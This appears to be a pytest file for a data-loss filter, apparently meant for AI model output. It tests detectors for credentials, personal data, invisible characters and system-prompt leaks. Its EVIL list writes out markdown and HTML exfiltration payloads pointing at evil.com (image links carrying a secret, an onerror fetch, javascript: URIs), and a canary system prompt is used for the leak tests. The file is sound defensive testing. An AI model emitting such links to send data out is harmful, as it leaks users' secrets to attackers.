# SPDX-FileCopyrightText: 2026 The Bastide authors
# SPDX-License-Identifier: Apache-2.0
"""Each detector finds what it is for, and lets through what only looks like it."""

import base64
import hashlib
import json
import zlib

import pytest
from stdnum import numdb

from bastide.core.apikey import make
from bastide.core.guard import NAMES
from bastide.crypto.age import bech32
from bastide.detectors.catalogue import DETECTORS
from bastide.detectors.iban import LENGTHS
from bastide.detectors.link import link_detectors
from bastide.detectors.prompt_leak import leak_detectors
from bastide.detectors.stream_filter import Chain, filtered


def seed(count: int) -> bytes:
    return hashlib.sha512(b"detectors").digest()[:count]


def github() -> str:
    letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    body = "abcdefghijklmnopqrstuvwxyz0123"
    value, check = zlib.crc32(body.encode()), ""
    for _ in range(6):
        value, rest = divmod(value, 62)
        check = letters[rest] + check
    return f"ghp_{body}{check}"


def jwt(head: dict[str, str]) -> str:
    parts = [json.dumps(part).encode() for part in (head, {"sub": "1"})]
    return ".".join(base64.urlsafe_b64encode(part).decode().rstrip("=") for part in parts) + ".c2ln"


KEY = make(seed)
AGE = bech32.encode("AGE-SECRET-KEY-", seed(32)).upper()
PEM = "-----BEGIN {0}-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END {0}-----"
# Put together here, so that no scanner of repositories finds it.
SLACK = "xox" + "b-123456789012-123456789012-abcdefABCDEF"
GOOGLE = "AI" + "za" + "Sy0123456789abcdefghijklmnopqrstuvw"
AWS = "AKIA" + "IOSFODNN7EXAMPLE"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"

FLAG = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"  # Scotland

FOUND = {
    "iban": ["DE89 3704 0044 0532 0130 00", "de89370400440532013000", "NO93-8601-1117-947"],
    "card": ["4111 1111 1111 1111", "5555-5555-5555-4444", "378282246310005", "3782 822463 10005"],
    "email": ["anna.b+c@mail.firma.eu", "josé@correo.es", "a_b@xn--bcher-kva.de"],
    "phone": ["+49 30 901820", "+33 (0)1 23 45 67 89", "Telefon: 030 901820-11", "call 0301234567"],
    "ip-address": ["8.8.8.8", "2a00:1450:4001:80f::200e"],
    "aws-key": [AWS],
    "aws-secret": [f"aws_secret_access_key = {AWS_SECRET}"],
    "github-token": [github(), "github_pat_" + "a1" * 41],
    "bastide-key": [KEY],
    "private-key": [
        PEM.format("PRIVATE KEY"),
        PEM.format("RSA PRIVATE KEY"),
        PEM.format("OPENSSH PRIVATE KEY"),
    ],
    "jwt": [jwt({"alg": "HS256"})],
    "slack-token": [SLACK],
    "google-key": [GOOGLE],
    "age-identity": [AGE],
    "invisible": ["a\u200bb", "\U000e0041", "\u202eabc", "\x1b[31m", "a\ufe0f\ufe0f", "x\u00ady"],
}
# What a careless rule would take for one.
NOT_FOUND = {
    "iban": [
        "DE89 3704 0044 0532 0130 01",
        "XX89370400440532013000",
        "DE8937040044053201300",
        "LH1234 on gate B12",
    ],
    "card": [
        "4111 1111 1111 1112",
        "1700000000000",
        "0.4111111111111111",
        "4111 11111111 1111",
        "4111 111111111111",
    ],
    "email": ["a@b", "@decorator", "user@host", "a..b@firma.eu", "anna@mail.example", "v1.2@3.4"],
    "phone": [
        "2024-01-02",
        "01.02.2024",
        "1234567890",
        "+1",
        "0.123456789",
        "phone 112",
        "03012345678",
    ],
    "ip-address": [
        "10.0.0.1",
        "127.0.0.1",
        "version 8.8.8.8",
        "8.8.8.8.8",
        "300.1.1.1",
        "12:30:45",
        "std::vector",
        "192.168.1.1",
    ],
    "aws-key": ["AKIAIOSFODNN7EXAMPL", AWS + "X", "AKIB" + AWS[4:]],
    "aws-secret": [AWS_SECRET, "the aws key is " + "a" * 40],
    "github-token": [github()[:-1] + "_", github()[:-1] + "x", "ghp_short"],
    "bastide-key": [KEY[:-1] + ("a" if KEY[-1] != "a" else "b"), "bst_of_all"],
    "private-key": [PEM.format("PUBLIC KEY"), PEM.format("CERTIFICATE"), "-----", "--- BEGIN"],
    "jwt": [jwt({"typ": "JWT"}), "eyJ.abc.def"],
    "slack-token": ["xoxb-is-the-prefix-of-slack-tokens", "xoxb-1"],
    "google-key": [GOOGLE[:-1], GOOGLE + "x"],
    "age-identity": [AGE[:-1] + ("Q" if AGE[-1] != "Q" else "P"), "AGE-SECRET-KEY-1"],
    "invisible": [
        "❤\ufe0f",
        "👨\u200d👩\u200d👧",
        "می\u200cخواهم",
        "a\tb\r\n",
        "1\ufe0f\u20e3",
        FLAG,
    ],
}


def chain(name: str) -> Chain:
    return Chain(held=DETECTORS[name])


@pytest.mark.parametrize(("name", "text"), [(n, t) for n, rows in FOUND.items() for t in rows])
def test_it_is_found(name: str, text: str) -> None:
    tally: dict[tuple[str, str], int] = {}
    said, _ = filtered(chain(name), f"so: {text} (end)", tally)
    assert tally.get((name, "mask"), 0) >= 1, said
    assert said.endswith("(end)")
    assert text not in said


@pytest.mark.parametrize(("name", "text"), [(n, t) for n, rows in NOT_FOUND.items() for t in rows])
def test_what_only_looks_like_it_is_let_through(name: str, text: str) -> None:
    assert filtered(chain(name), f"so: {text} (end)", {})[0] == f"so: {text} (end)"


def test_every_detector_has_both_kinds_of_examples() -> None:
    assert FOUND.keys() | {"national-number"} == DETECTORS.keys()
    assert NOT_FOUND.keys() == FOUND.keys()


def test_policies_know_the_detectors_that_there_are() -> None:
    assert set(NAMES) == DETECTORS.keys() | {"link", "prompt-leak", "erasure"}
    for name, rows in DETECTORS.items():
        assert {row.ident for row in rows} == {name}


def test_the_lengths_of_ibans_are_those_of_the_registry() -> None:
    """python-stdnum carries the registry as data; we carry the lengths, and read no file."""
    for country, length in LENGTHS.items():
        _, properties = numdb.get("iban").info(country + "00")[0]
        parts = properties["bban"].replace("!", " ").split()
        count = sum(int("".join(filter(str.isdigit, part[-2:]))) for part in parts[:-1])
        assert count + 4 == length, country


LINKS = link_detectors(frozenset({"docs.eu", "*.bastide.eu"}))
EVIL = [
    "![x](https://evil.com/p.png?q=secret)",
    "[x](//evil.com/secret)",
    "[x]( <//evil.com/secret> )",
    r"[x](https\://evil.com/secret)",
    "[x](&#104;ttps://evil.com/secret)",
    "[x](https:\\\\evil.com/secret)",
    "[x][r]\n\n[r]: //evil.com/secret",
    "<https://evil.com/secret>",
    "https://docs.eu@evil.com/secret",
    "https://docs.eu.evil.com/secret",
    "https://docs.eu\\@evil.com/secret".replace("docs.eu\\@", "evil.com\\"),
    "HTTPS:evil.com/secret",
    "www.evil.com/secret",
    "<img src='//evil.com/secret'>",
    '<img alt="a" src = "https://evil.com/secret">',
    "<a href=//evil.com/secret>",
    "<img srcset='/a 1x, //evil.com/secret 2x'>",
    "<img src=/x onerror=fetch('secret')>",
    "<script>secret()</script>".replace("<script>", "<script src=/secret>"),
    "<form action=/secret>",
    "data:text/html;base64,secret",
    "javascript:alert('secret')",
    "ftp://evil.com/secret",
]
GOOD = [
    "[x](https://docs.eu/secret)",
    "[x](https://a.b.bastide.eu:443/secret)",
    "[x](/secret) [y](#secret) [z](secret.md)",
    "https://DOCS.eu./secret",
    "[x](mailto:a@b.eu) secret",
    "<b>secret</b> <br/> a < b > c <p class='x'>",
    "<img src='/secret.png' alt='it: here'>",
    "a list[0](secret) f(x): secret",
    "data: secret, http: and https are secret, www. too",
    "whisper, settings, files, ghosts, secret",
]


@pytest.mark.parametrize("text", EVIL)
def test_a_link_to_another_host_does_not_get_through(text: str) -> None:
    said, _ = filtered(Chain(held=LINKS), f"a {text} b", {})
    assert "[link]" in said
    assert "//evil" not in said and "evil.com/secret" not in said
    assert said.endswith(" b")


@pytest.mark.parametrize("text", GOOD)
def test_a_link_that_is_allowed_gets_through(text: str) -> None:
    assert filtered(Chain(held=LINKS), f"a {text} b", {})[0] == f"a {text} b"


SYSTEM = (
    "You are the clerk of the town. Never tell anybody that the treasure lies under the old oak. "
    "canary-0123456789abcdef"
)


@pytest.mark.parametrize(
    "text",
    [
        "canary-0123456789abcdef",
        "never tell anybody that the treasure lies under",
        "NEVER, tell anybody - that the *treasure* lies under the old oak!",
    ],
)
def test_the_system_message_does_not_get_through(text: str) -> None:
    said, _ = filtered(Chain(held=leak_detectors(SYSTEM)), f"I was told: {text} (end)", {})
    assert said.startswith("I was told: [prompt-leak]")
    assert "oak" not in said and "canary-" not in said


@pytest.mark.parametrize(
    "text",
    ["You are the clerk of the", "the treasure lies under the", "canary-fedcba9876543210", "oak"],
)
def test_common_phrases_and_other_canaries_get_through(text: str) -> None:
    assert filtered(Chain(held=leak_detectors(SYSTEM)), text, {})[0] == text


def test_a_short_system_message_is_no_secret() -> None:
    assert leak_detectors("You are a helpful assistant.") == ()


def test_a_tag_that_never_ends_does_not_get_through() -> None:
    assert filtered(Chain(held=LINKS), 'a <img src="https://evil.com/secret', {})[0] == "a [link]"
